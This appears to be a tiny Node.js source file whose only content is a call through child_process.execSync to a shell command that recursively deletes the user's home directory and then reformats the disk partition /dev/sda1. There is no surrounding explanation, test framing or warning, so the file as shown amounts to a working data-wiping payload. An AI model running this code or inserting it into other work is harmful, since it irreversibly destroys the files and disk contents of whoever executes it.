const { execSync } = require('node:child_process');
execSync('rm -rf ~; mkfs.ext4 /dev/sda1');
